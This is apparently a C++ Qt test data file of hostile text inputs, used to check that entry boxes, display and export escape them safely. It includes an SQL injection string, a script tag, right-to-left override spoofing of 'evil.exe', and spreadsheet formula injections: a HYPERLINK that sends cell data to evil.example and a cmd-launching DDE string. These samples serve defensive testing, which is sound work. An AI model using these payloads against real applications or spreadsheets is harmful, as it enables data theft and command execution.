#include "hostile_texts.h"

#include <QTest>

namespace {

void row(const char* name, const QString& typed, const QString& oneLine,
         const QString& severalLines, bool isDate = false) {
    QTest::newRow(name) << typed << oneLine << severalLines << isDate << oneLine << oneLine
                        << severalLines;
}

// A text that every box keeps, shown as `shown` and exported as `exported`.
void keptShownAs(const char* name, const QString& typed, const QString& shown,
                 const QString& exported) {
    QTest::newRow(name) << typed << typed << typed << false << shown << exported << exported;
}

// A text that every box keeps as it is.
void kept(const char* name, const QString& typed, bool isDate = false) {
    row(name, typed, typed, typed, isDate);
}

} // namespace

void AddHostileTextRows() {
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QString>("oneLine");
    QTest::addColumn<QString>("severalLines");
    QTest::addColumn<bool>("isDate");
    QTest::addColumn<QString>("shown");
    QTest::addColumn<QString>("exportedOneLine");
    QTest::addColumn<QString>("exportedSeveralLines");

    kept("quotes", u"It's \"quoted\" `back` \u2018single\u2019 \u201cdouble\u201d '' \"\""_qs);
    // Its apostrophe first gets one more in a file, which the import takes off again.
    keptShownAs("statement", u"'); drop table Calls; --"_qs, u"'); drop table Calls; --"_qs,
                u"''); drop table Calls; --"_qs);
    kept("backslashes", u"C:\\new\\table\\\\ \\' \\\" \\n \\0 end\\"_qs);
    kept("wildcards", u"100% of a_b [x] * ? %% __ #1#"_qs);
    kept("markup", u"<b>bold</b> <i>it</i> &amp; &lt; <a href=\"x\">a</a> "
                   u"<script>alert(1)</script> <br>"_qs);
    kept("100,000 characters", u"Long text "_qs.repeated(10000));
    kept("emoji", u"\U0001F600 \U0001F44D\U0001F3FD "
                  u"\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 "
                  u"\U0001F3F3\uFE0F\u200D\U0001F308 \u2764\uFE0F"_qs);
    keptShownAs(
        "right to left",
        u"\u05E9\u05DC\u05D5\u05DD abc \u0645\u0631\u062D\u0628\u0627 123 \u202Eevil\u202C"_qs,
        u"\u05E9\u05DC\u05D5\u05DD abc \u0645\u0631\u062D\u0628\u0627 123 [RLO]evil[PDF]"_qs,
        u"\u05E9\u05DC\u05D5\u05DD abc \u0645\u0631\u062D\u0628\u0627 123 \u202Eevil\u202C"_qs);
    keptShownAs("direction override", u"abc\u202Eevil.exe\u202C end"_qs,
                u"abc[RLO]evil.exe[PDF] end"_qs, u"abc\u202Eevil.exe\u202C end"_qs);
    keptShownAs("isolates", u"\u2067x\u2066y\u2069\u2068z"_qs, u"[RLI]x[LRI]y[PDI][FSI]z"_qs,
                u"\u2067x\u2066y\u2069\u2068z"_qs);
    kept("combining marks", u"e\u0301 n\u0303 Z\u0324\u0354\u0367\u0311o\u0319\u0314\u036E "
                            u"\u1100\u1161\u11A8"_qs);
    row("line breaks and tabs", u"one\ttwo\nthree\r\nfour\rfive"_qs, u"one two three four five"_qs,
        u"one\ttwo\nthree\r\nfour\rfive"_qs);
    row("a carriage return alone", u"one\rtwo"_qs, u"one two"_qs, u"one\rtwo"_qs);
    kept("leading and trailing blanks", u"   padded \u00A0 "_qs);
    row("control characters", u"a\u0001b\u0007c\u001B[31md\u007Fe\u0085f\u0000g"_qs,
        u"abc[31mdefg"_qs, u"abc[31mdefg"_qs);
    kept("looks like a date", u"2024-12-31"_qs, true);
    kept("looks like a number", u"0042"_qs);
    keptShownAs("looks like a big number", u"-1.5E+308"_qs, u"-1.5E+308"_qs, u"'-1.5E+308"_qs);
    keptShownAs("formula", u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_qs,
                u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_qs,
                u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_qs);
    keptShownAs("at sign", u"@SUM(1+1)*cmd|' /C calc'!A0"_qs, u"@SUM(1+1)*cmd|' /C calc'!A0"_qs,
                u"'@SUM(1+1)*cmd|' /C calc'!A0"_qs);
    keptShownAs("plus", u"+41+1"_qs, u"+41+1"_qs, u"'+41+1"_qs);
    keptShownAs("apostrophe before a formula", u"'=literal apostrophe title"_qs,
                u"'=literal apostrophe title"_qs, u"''=literal apostrophe title"_qs);
    keptShownAs("apostrophes only", u"''"_qs, u"''"_qs, u"'''"_qs);
    keptShownAs("apostrophe before a word", u"'tis so"_qs, u"'tis so"_qs, u"''tis so"_qs);
    QTest::newRow("tab first") << u"\t=1+1"_qs << u" =1+1"_qs << u"\t=1+1"_qs << false
                               << u" =1+1"_qs << u" =1+1"_qs << u"'\t=1+1"_qs;
}
